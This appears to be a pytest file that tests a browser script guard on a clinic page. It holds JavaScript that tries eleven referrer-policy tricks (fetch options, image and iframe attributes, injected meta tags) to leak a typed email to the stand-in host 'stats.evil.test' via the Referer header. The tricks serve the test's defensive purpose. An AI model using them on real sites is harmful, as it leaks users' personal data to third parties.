"""The page's own address as `Referer`: nothing typed that a script put into it goes along."""

import pytest

from scriptward.app.guard import guard_script
from scriptward.policy.language.reader import parsed

HOST = "stats.evil.test"
POLICY = f"""
version: 1
site: www.clinic.test
mode: enforce
defaults: {{"*": forbid}}
recipients:
  stats: {{hosts: [{HOST}], baa: none}}
scripts:
  - {{match: "/**", approved: {{by: lab, date: 2026-11-01, why: "the page's own"}}}}
rules:
  - {{id: own, permit: [send, read, load], to: self}}
  - {{id: counted, permit: [send, load], to: stats, data: []}}
"""
PAGE = (
    "<!doctype html><meta charset=utf-8><script src=/referrers-guard.js></script>"
    "<title>Visit</title><link rel=icon href='data:,'><body><input name=email><p id=box></p>"
    "<script src=/referrers.js></script>"
)
TYPED = "jane.roe@example.test"
PATIENCE = 200  # twentieths of a second
OTHER = "none.said@example.org"
CODE = """
const out = (way) => "http://HOST/" + way + Math.random();
const put = (said) => history.replaceState(0, "", "?q=" + encodeURIComponent(said));
const meta = (content) => {
  const made = document.createElement("meta");
  made.name = "Referrer";
  made.content = content;
  document.head.append(made);
};
const ways = {
  option: (said, to) => {
    put(said);
    fetch(to, { referrerPolicy: "unsafe-url", mode: "no-cors" });
  },
  referrer: (said, to) =>
    fetch(to, { referrer: "/" + said, referrerPolicy: "unsafe-url", mode: "no-cors" }),
  request: (said, to) => {
    put(said);
    fetch(new Request(to, { referrerPolicy: "no-referrer-when-downgrade", mode: "no-cors" }));
  },
  property: (said, to) => {
    put(said);
    const image = new Image();
    image.referrerPolicy = "unsafe-url";
    image.src = to;
  },
  earlier: (said, to) => {
    const image = new Image();
    image.referrerPolicy = "unsafe-url";
    put(said);
    image.src = to;
  },
  later: (said, to) => {
    put(said);
    const image = new Image();
    image.src = to;
    image.referrerPolicy = "unsafe-url";
  },
  attribute: (said, to) => {
    put(said);
    const frame = document.createElement("iframe");
    frame.setAttribute("ReferrerPolicy", "Unsafe-URL");
    frame.src = to;
    box.append(frame);
  },
  markup: (said, to) => {
    put(said);
    box.innerHTML = `<img referrerpolicy=unsafe-url src="${to}">`;
  },
  meta: (said, to) => { put(said); meta("unsafe-url"); new Image().src = to; },
  "meta-before": (said, to) => { meta("unsafe-url"); put(said); fetch(to, { mode: "no-cors" }); },
  "meta-always": (said, to) => { put(said); meta("always"); new Image().src = to; },
};
const tried = (way, said) => ways[way](said, out(way));
"""
NAMES = (
    *("option", "referrer", "request", "property", "earlier", "later", "attribute", "markup"),
    *("meta", "meta-before", "meta-always"),
)


def arrived(page, site, way):
    """The `Referer` of the last request of a way."""
    for _ in range(PATIENCE):
        page.wait_for_timeout(50)
        found = [by for path, by in site.referers if path.startswith(f"/{way}0.")]
        if found:
            site.referers.clear()
            return found[-1]
    return None


@pytest.fixture(scope="module")
def told(chromium, site):
    """By way: the `Referer` with another text in the page's address, and with what was typed."""
    site.files["/referrers-guard.js"] = guard_script(parsed(POLICY), headers=True)
    site.files["/referrers.js"] = CODE.replace("HOST", HOST).encode()
    site.files["/referrers"] = PAGE.encode()
    answers = {}
    context = chromium.new_context()
    for way in NAMES:
        for said in (OTHER, TYPED):
            page = context.new_page()
            page.goto("http://www.clinic.test/referrers")
            page.fill("input", TYPED)
            page.evaluate(f"tried('{way}', '{said}')")
            answers[way, said] = arrived(page, site, way)
            page.close()
    context.close()
    return answers


@pytest.mark.parametrize("way", NAMES)
def test_the_page_s_address_goes_along_as_it_was_asked_for(told, way):
    assert OTHER in told[way, OTHER].replace("%40", "@")


@pytest.mark.parametrize("way", NAMES)
def test_nothing_typed_is_in_it_and_the_request_goes(told, way):
    assert told[way, TYPED].startswith("http://www.clinic.test/")
    assert "jane" not in told[way, TYPED]
